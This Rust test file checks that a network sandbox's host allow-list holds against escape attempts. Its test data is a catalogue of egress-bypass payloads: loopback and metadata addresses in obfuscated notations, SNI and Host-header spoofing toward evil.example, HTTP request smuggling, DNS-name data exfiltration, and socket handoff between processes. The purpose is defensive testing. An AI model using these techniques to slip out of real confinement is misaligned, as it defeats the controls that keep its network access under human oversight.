//! Tests attacks on a list of allowed hosts. Packets in the test's internet and at the machine's own servers show the
//! result. As a control, each attack's packet must arrive without a sandbox.

use ipc::confinement::Tier;

use crate::ground::{Ground, NAMES, Packet, in_full, on_a_machine};

/// Allowed hosts. Nobody answers at `silent.example`.
const LIST: &str = "a.example,a.example:80,a.example:7,*.b.example,silent.example:7,\
    loopback.example:7,loopback6.example:7,any.example:7,own.example:7,private.example:7,near.example:7,metadata.example:7,\
    inside.example:7,mapped.example:7";

/// An attack: a Python expression, the beginning of the packet that must not arrive, and a part of the report to the
/// agent or the person. A report that differs between the tiers is given as `FULL / FLOOR`.
struct Attack {
    act: &'static str,
    arrives: &'static str,
    told: &'static str,
}

const fn attack(act: &'static str, arrives: &'static str, told: &'static str) -> Attack {
    Attack { act, arrives, told }
}

/// Attacks that use addresses instead of names, in every notation.
const LITERALS: &[Attack] = &[
    attack("tcp('127.0.0.1', 7, b'x')", "tcp 127.0.0.1:7", "ECONNREFUSED"),
    attack("tcp('2130706433', 7, b'x')", "tcp 127.0.0.1:7", "ECONNREFUSED"),
    attack("tcp('0x7f.1', 7, b'x')", "tcp 127.0.0.1:7", "ECONNREFUSED"),
    attack("tcp('0', 7, b'x')", "tcp 127.0.0.1:7", "ECONNREFUSED"),
    attack("tcp('::1', 7, b'x')", "tcp [::1]:7", "ECONNREFUSED"),
    attack("tcp('::ffff:127.0.0.1', 7, b'x')", "tcp 127.0.0.1:7", "ECONNREFUSED"),
    attack("tcp('::ffff:8.8.8.8', 7, b'x')", "tcp 8.8.8.8:7", "ENETUNREACH"),
    attack("tcp('8.8.8.8', 8443, b'x')", "tcp 8.8.8.8:8443", "ENETUNREACH"),
    attack("tcp('134744072', 80, http('/', 'x'))", "tcp 8.8.8.8:80", "ENETUNREACH"),
    attack("tcp('203.0.113.1', 7, b'x')", "tcp 203.0.113.1:7", "ENETUNREACH"),
    attack("tcp('203.0.113.254', 7, b'x')", "tcp 203.0.113.254:7", "ENETUNREACH / ECONNREFUSED"),
    attack("tcp('169.254.169.254', 80, http('/', 'x'))", "tcp 169.254.169.254:80", "ENETUNREACH"),
    attack("tcp('10.7.7.7', 7, b'x')", "tcp 10.7.7.7:7", "ENETUNREACH"),
    attack("tcp('198.20.0.1', 7, b'x')", "tcp 198.20.0.1:7", "ENETUNREACH"),
];

/// Attacks by allowed names with addresses that an agent may reach only with an additional permission.
const RESOLVED: &[Attack] = &[
    attack(
        "tcp('loopback.example', 7, b'x')",
        "tcp 127.0.0.1:7",
        "127.0.0.1:7 cannot be reached: Permission",
    ),
    attack("tcp('loopback6.example', 7, b'x')", "tcp [::1]:7", "[::1]:7 cannot be reached: Permission"),
    attack("tcp('any.example', 7, b'x')", "tcp 127.0.0.1:7", "0.0.0.0:7 cannot be reached: Permission"),
    attack(
        "tcp('own.example', 7, b'x')",
        "tcp 203.0.113.254:7",
        "203.0.113.254:7 cannot be reached: Permission",
    ),
    attack("tcp('private.example', 7, b'x')", "tcp 10.7.7.7:7", "10.7.7.7:7 cannot be reached: Permission"),
    attack(
        "tcp('near.example', 7, b'x')",
        "tcp 169.254.7.7:7",
        "169.254.7.7:7 cannot be reached: Permission",
    ),
    attack(
        "tcp('metadata.example', 7, b'x')",
        "tcp 169.254.169.254:7",
        "169.254.169.254:7 cannot be reached: Permission",
    ),
    attack("tcp('mapped.example', 7, b'x')", "tcp 127.0.0.1:7", "cannot be reached: Permission"),
    attack("tcp('inside.example', 7, b'x')", "tcp 198.19.0.1:7", "the name has no address"),
];

/// Attacks by a first message that names another host than the one it goes to.
const SAID: &[Attack] = &[
    attack("tls('a.example', 'evil.example')", "tcp 203.0.113.1:443", "name another host, evil.example"),
    attack("tls('a.example', None)", "tcp 203.0.113.1:443", "the first bytes of the connection name no host"),
    attack("tcp('a.example', 443, b'SSH-2.0-x\\r\\n')", "tcp 203.0.113.1:443", "no first message"),
    attack("tcp('a.example', 443, http('/', 'a.example'))", "tcp 203.0.113.1:443", "no first message"),
    attack(
        "tcp('a.example', 80, http('/', 'evil.example'))",
        "tcp 203.0.113.1:80",
        "another host, evil.example",
    ),
    attack("tcp('a.example', 80, b'GET / HTTP/1.0\\r\\n\\r\\n')", "tcp 203.0.113.1:80", "name no host"),
    attack(
        "tcp('a.example', 80, http('/', 'a.example', 'Host: evil.example\\r\\n'))",
        "tcp 203.0.113.1:80",
        "first bytes of the connection name",
    ),
    attack(
        "tcp('a.example', 80, b'CONNECT evil.example:443 HTTP/1.1\\r\\nHost: a.example\\r\\n\\r\\n')",
        "tcp 203.0.113.1:80",
        "another host, evil.example",
    ),
    attack(
        "tcp('a.example', 80, http('http://evil.example/', 'a.example'))",
        "tcp 203.0.113.1:80",
        "another host, evil.example",
    ),
    attack(
        "tcp('a.example', 80, http('/first', 'a.example'), http('/second', 'evil.example'))",
        "said 203.0.113.1:80 GET /second",
        "another host, evil.example",
    ),
    attack(
        "tcp('a.example', 80, http('/first', 'a.example') + http('/second', 'evil.example'))",
        "said 203.0.113.1:80 GET /first HTTP/1.1\r\nHost: a.example\r\n\r\nGET /second",
        "another host, evil.example",
    ),
    attack(
        "tcp('a.example', 80, http('/', 'a.example', 'Content-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n') \
         + b'0\\r\\n\\r\\n' + http('/second', 'evil.example'))",
        "tcp 203.0.113.1:80",
        "no first message",
    ),
    attack(
        "def hello():
    c = open_to('a.example', 7)
    LAX.wrap_socket(c, server_hostname='evil.example')
say(hello)",
        "said 203.0.113.1:7 \u{16}\u{3}\u{1}",
        "another host, evil.example",
    ),
];

/// Attacks in other ways: datagrams, other resolvers, data in names, invalid addresses, and passed sockets.
const WAYS: &[Attack] = &[
    attack("udp('8.8.8.8', 443)", "udp 8.8.8.8:443", "ENETUNREACH"),
    attack("udp('a.example', 443)", "udp 203.0.113.1:443", "ECONNREFUSED"),
    attack("udp('a.example', 53, question('secret.example'))", "udp 203.0.113.1:53", "ECONNREFUSED"),
    attack("udp('8.8.8.8', 53, question('secret.example'))", "udp 8.8.8.8:53", "ENETUNREACH"),
    // In the floor tier the broker's own resolver gets the datagram.
    attack("udp('203.0.113.53', 53, question('secret.example'))", "udp 203.0.113.53:53", "ENETUNREACH / 32"),
    attack("tcp('8.8.8.8', 53, question('secret.example'))", "tcp 8.8.8.8:53", "ENETUNREACH"),
    attack(
        "MSG_FASTOPEN = 0x20000000
say(lambda: s.socket().sendto(http('/', 'x'), MSG_FASTOPEN, ('8.8.8.8', 80)))",
        "tcp 8.8.8.8:80",
        "E",
    ),
    attack("look_up('secret.example')", "udp 203.0.113.53:53", "198.19.0.1"),
    attack("look_up('secret.b.example')", "udp 203.0.113.53:53", "198.19.0.1"),
    attack("look_up('secret.a.example')", "udp 203.0.113.53:53", "198.19.0.1"),
    attack("tcp('a.example', 22, b'x')", "tcp 203.0.113.1:22", "E"),
    attack("tcp('198.19.0.1', 8443, b'x')", "tcp 198.19.0.1:8443", "ECONNREFUSED"),
    attack("tcp('198.19.0.77', 7, b'x')", "tcp 198.19.0.77:7", "ECONNREFUSED"),
    attack(
        "ours, theirs = s.socketpair()
handed = s.socket()
if os.fork() == 0:
    ours.close()
    c = s.socket(fileno=s.recv_fds(theirs, 1, 1)[1][0])
    say(lambda: c.connect(('8.8.8.8', 7)))
    os._exit(0)
s.send_fds(ours, [b'x'], [handed.fileno()])
os.wait()",
        "tcp 8.8.8.8:7",
        "ENETUNREACH",
    ),
    attack(
        "raw = []
say(lambda: raw.append(s.socket(s.AF_INET, s.SOCK_RAW, s.IPPROTO_ICMP)))
say(lambda: subprocess.run(['ping', '-c1', '-W1', '203.0.113.1'], stderr=2).returncode)
udp('203.0.113.1', 9)",
        "udp 203.0.113.1:9",
        "ENETUNREACH",
    ),
];

fn has(packets: &[Packet], start: &str) -> bool {
    packets.iter().any(|packet| packet.starts_with(start))
}

fn attacked(ground: &mut Ground, attacks: &[Attack]) {
    let mut faults = Vec::new();
    for Attack { act, arrives, told } in attacks {
        ground.take();
        let freely = ground.unconfined(act);
        let came = ground.take();
        if !has(&came, arrives) {
            faults.push(format!("{act}: never arrives: {came:?} {freely:?}"));
        }
        let (full, floor) = told.split_once(" / ").unwrap_or((told, told));
        let told = if ground.tier == Tier::Full { full } else { floor };
        let done = ground.python(LIST, act);
        let came = ground.take();
        if has(&came, arrives) {
            faults.push(format!("{act}: arrives: {came:?} {done:?}"));
        }
        if !format!("{}{}", done.stdout, done.stderr).contains(told) {
            faults.push(format!("{act}: does not tell {told:?}: {done:?}"));
        }
    }
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

#[test]
fn no_address_is_reached_in_any_notation() {
    on_a_machine("attacks::no_address_is_reached_in_any_notation", |ground| attacked(ground, LITERALS));
}

#[test]
fn a_name_of_the_list_leads_to_no_address_beyond_the_reach() {
    on_a_machine("attacks::a_name_of_the_list_leads_to_no_address_beyond_the_reach", |ground| {
        attacked(ground, RESOLVED);
        for (reach, host, at) in [
            ("host", "loopback.example", "tcp 127.0.0.1:7"),
            ("lan", "private.example", "tcp 10.7.7.7:7"),
            ("link-local", "near.example", "tcp 169.254.7.7:7"),
            ("metadata", "metadata.example", "tcp 169.254.169.254:7"),
        ] {
            let act = format!("tcp('{host}', 7, b'as granted')");
            let done = ground.python_with(&["--net", &format!("{host}:7"), "--reach", reach], &act);
            let came = ground.take();
            assert!(done.stdout == "b'as granted'\n" && has(&came, at), "{reach}: {done:?} {came:?}");
        }
    });
}

#[test]
fn a_first_message_names_the_host_that_was_dialled() {
    on_a_machine("attacks::a_first_message_names_the_host_that_was_dialled", |ground| attacked(ground, SAID));
}

#[test]
fn no_other_way_leads_out() {
    on_a_machine("attacks::no_other_way_leads_out", |ground| attacked(ground, WAYS));
}

#[test]
fn the_address_that_is_judged_is_the_one_that_is_dialled() {
    on_a_machine("attacks::the_address_that_is_judged_is_the_one_that_is_dialled", |ground| {
        let script = "for _ in range(3):
    tcp('a.example', 7, b'x')
    sys.stdin.readline()";
        let mut running = ground.start(LIST, script);
        assert_eq!(running.hear(), "b'x'");
        assert!(has(&ground.take(), "tcp 203.0.113.1:7"));
        for (address, victim) in [("127.0.0.1", "tcp 127.0.0.1:7"), ("10.7.7.7", "tcp 10.7.7.7:7")] {
            ground.name(&NAMES.replace("203.0.113.1 a.example", &format!("{address} a.example")));
            running.tell("");
            assert_eq!(running.hear(), "ECONNRESET");
            assert!(!has(&ground.take(), victim), "{victim}");
            ground.unconfined("tcp('a.example', 7, b'x')");
            assert!(has(&ground.take(), victim), "{victim}");
        }
        ground.name(NAMES);
        running.tell("");
        let done = running.finish();
        assert!(done.code == 0 && done.stderr.contains("127.0.0.1:7 cannot be reached"), "{done:?}");
    });
}

#[test]
fn an_address_of_one_sandbox_means_nothing_in_another() {
    on_a_machine("attacks::an_address_of_one_sandbox_means_nothing_in_another", |ground| {
        let script = "ip = s.gethostbyname('a.example')
print(ip, flush=True)
sys.stdin.readline()
tcp(ip, 7, b'mine')";
        let mut first = ground.start("a.example:7", script);
        let ip = first.hear();
        let other = ground.python("b.example:7", &format!("tcp('{ip}', 7, b'x')"));
        assert_eq!((other.stdout.as_str(), ground.take()), ("ECONNREFUSED\n", Vec::<Packet>::new()));
        let script = format!("s.gethostbyname('b.example')\ntcp('{ip}', 7, b'x')");
        let other = ground.python("b.example:7", &script);
        assert_eq!(other.stdout, "b'x'\n", "{}", other.stderr);
        let came = ground.take();
        assert!(has(&came, "tcp 203.0.113.2:7") && !has(&came, "tcp 203.0.113.1"), "{came:?}");
        first.tell("");
        assert_eq!(first.hear(), "b'mine'");
        assert!(has(&ground.take(), "tcp 203.0.113.1:7"));
        assert_eq!(first.finish().code, 0);
    });
}

#[test]
fn a_server_inside_takes_no_connection_of_a_name() {
    in_full("attacks::a_server_inside_takes_no_connection_of_a_name", |ground| {
        let script = "server = s.create_server(('0.0.0.0', 8443))
tcp('a.example', 8443, b'outside')
server.settimeout(0)
say(server.accept)
say(lambda: s.create_server(('0.0.0.0', 443)).close())";
        let done = ground.python("a.example:8443", script);
        assert!(done.stdout.starts_with("b'outside'\nEAGAIN\n"), "{done:?}");
        assert!(has(&ground.take(), "tcp 203.0.113.1:8443"));
    });
}

#[test]
fn a_socket_that_another_command_was_handed_obeys_the_list() {
    on_a_machine("attacks::a_socket_that_another_command_was_handed_obeys_the_list", |ground| {
        // Two programs of one sandbox share a socket. The first program has already been asked about the host.
        let script = "path = os.environ['TMPDIR'] + '/handed'
listener = s.socket(s.AF_UNIX)
listener.bind(path)
listener.listen()
act = '''import socket as s, sys, errno
c = s.socket(s.AF_UNIX)
c.connect(sys.argv[1])
c = s.socket(fileno=s.recv_fds(c, 1, 1)[1][0])
for to in ('203.0.113.4', 7), ('a.example', 7):
    try: c.connect(to); c.sendall(b'handed'); print(c.recv(9), flush=True)
    except OSError as e: print(errno.errorcode[e.errno], flush=True)'''
other = subprocess.Popen([sys.executable, '-c', act, path])
ours = s.socket()
s.send_fds(listener.accept()[0], [b'x'], [ours.fileno()])
other.wait()";
        let done = ground.python("a.example:7", script);
        assert_eq!(done.stdout, "ENETUNREACH\nb'handed'\n", "{}", done.stderr);
        let came = ground.take();
        assert!(has(&came, "tcp 203.0.113.1:7") && !has(&came, "tcp 203.0.113.4"), "{came:?}");
    });
}
